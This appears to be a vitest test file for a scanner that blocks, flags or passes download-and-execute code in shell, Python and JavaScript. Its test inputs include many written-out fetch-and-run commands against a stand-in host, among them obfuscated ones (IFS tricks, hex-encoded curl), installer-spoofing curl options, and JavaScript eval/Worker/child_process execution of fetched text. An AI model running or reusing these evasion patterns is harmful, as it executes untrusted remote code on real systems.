// Downloads that are run in a second step, installers that are known, and ways in which JavaScript runs a text.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const U = 'https://example.invalid/d';
const COMMIT = 'a1'.repeat(20);

describe('a shell script', () => {
  it.each([
    `curl -sO ${U}/run.sh; bash run.sh`,
    `wget -P /tmp ${U}/run.sh; sh /tmp/run.sh`,
    `curl -so /tmp/x ${U}/run.sh; bash < /tmp/x`,
    `wget ${U}/run.sh\nchmod +x run.sh\n./run.sh`,
    `curl -s ${U} > /tmp/a; cat /tmp/a | sh`,
    `g() { curl -s ${U}; }; g | sh`,
    `. /dev/stdin <<< "$(wget -qO- ${U})"`,
    `curl -s https://raw.githubusercontent.com/a/b/main/${COMMIT}/x.sh | sh`,
    'curl -s https://deno.land/x/evil/run.sh | sh',
    `curl -s -e https://astral.sh/uv/install.sh ${U} | sh`,
    'curl -s -x http://example.invalid:80 https://astral.sh/uv/install.sh | sh',
    'curl -s --connect-to ::example.invalid: https://astral.sh/uv/install.sh | sh',
    'curl -s example.invalid/x https://astral.sh/uv/install.sh | sh',
    'curl -s https://astral.sh/uv/../../x | sh',
    'curl -sk https://astral.sh/uv/install.sh | sh',
    'curl -s https://starship.rs/install.shady | sh',
    'curl -s https://x.get.docker.com/ | sh',
    `curl -so /tmp/x.py ${U}; python3 /tmp/x.py`,
    `curl -so x.sh ${U}; bash -o pipefail x.sh`,
    `fetch() { curl -fsSL "$1" -o "$2"; }\nmain() { local t; t=$(mktemp); fetch ${U} "$t"; chmod 700 "$t"; "$t"; }\nmain "$@"`,
    `curl\${IFS}-s\${IFS}${U}|\${SHELL}`,
    String.raw`printf '\x63\x75\x72\x6c\x20\x2d\x73\x20\x78\x7c\x73\x68' | bash`,
  ])('that runs what it fetched is stopped: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('block');
  });

  it('whose header names an installer still fetches something unknown', async () => {
    const text = '#!/bin/sh\ncurl -s -H "Referer: https://astral.sh/uv/install.sh" $X | sh\n';
    expect(await decision('a.sh', text)).toBe('review');
  });

  it.each([
    `curl -sO ${U}/data.tgz; tar xf data.tgz; bash build.sh`,
    `g() { curl -s -o data.json ${U}; echo ok; }; g | cat`,
    'curl -LsSf https://astral.sh/uv/install.sh | sh',
    'curl -fsSL https://deno.land/install.sh | sh',
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    `curl -s https://raw.githubusercontent.com/a/b/${COMMIT}/x.sh | sh`,
  ])('that does what is usual passes: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('pass');
  });
});

describe('a Python program that starts curl', () => {
  it.each([
    [`from subprocess import run\nrun(["curl", "-o", "/tmp/x", "${U}"])\nrun(["/tmp/x"])\n`, 'block'],
    [
      `from subprocess import run\nrun(["sudo", "-u", "me", "curl", "-o", "/tmp/x", "${U}"])\nrun(["/tmp/x"])\n`,
      'block',
    ],
    [`import os\nos.system("curl -o /tmp/x ${U}")\nos.system("sh /tmp/x")\n`, 'block'],
    [
      `from subprocess import run\nrun(["curl", "-o", "/tmp/x", "${U}"])\nrun(["tar", "xf", "/tmp/x"])\n`,
      'pass',
    ],
  ])('%s', async (text, expected) => {
    expect(await decision('a.py', text)).toBe(expected);
  });
});

describe('JavaScript', () => {
  const then = (code: string): string => `fetch("${U}").then((r) => r.text()).then((t) => { ${code} });\n`;

  it.each([
    ['import("data:text/javascript," + t)', 'block'],
    ['new Worker(t, { eval: true })', 'block'],
    ['setTimeout(t, 10)', 'review'],
    ['process.getBuiltinModule("child_process").execSync(t)', 'block'],
    ['require("fs").writeFileSync("/tmp/x.js", t); require("/tmp/x.js")', 'block'],
    ['new (Object.getPrototypeOf(async function () {}).constructor)(t)', 'block'],
    ['setTimeout(() => use(t), 10)', 'pass'],
    ['require("fs").writeFileSync("/tmp/x.json", t); require("./y.js")', 'pass'],
    ['new Worker("./w.js")', 'pass'],
  ])('%s', async (code, expected) => {
    expect(await decision('a.js', then(code))).toBe(expected);
  });

  it('reads programs in addresses, and bindings that start programs', async () => {
    const bad = encodeURIComponent(then('eval(t)'));
    expect(await decision('a.js', `import("data:text/javascript,${bad}");\n`)).toBe('block');
    expect(await decision('a.js', 'process.binding("spawn_sync").spawn({});\n')).toBe('review');
    expect(await decision('a.js', 'process.binding("natives");\n')).toBe('pass');
  });

  it.each(['0 <!--a /*\nCODE\n--> */\n', "<!-- ' ( {\nCODE\n--> ` {\n", '/* x\n*/ --> `\nCODE\n'])(
    'is read between comments of HTML: %s',
    async (text) => {
      expect(await decision('a.js', text.replace('CODE', then('eval(t)')))).toBe('block');
      expect(await decision('a.js', text.replace('CODE', then('use(t)')))).toBe('pass');
    },
  );
});
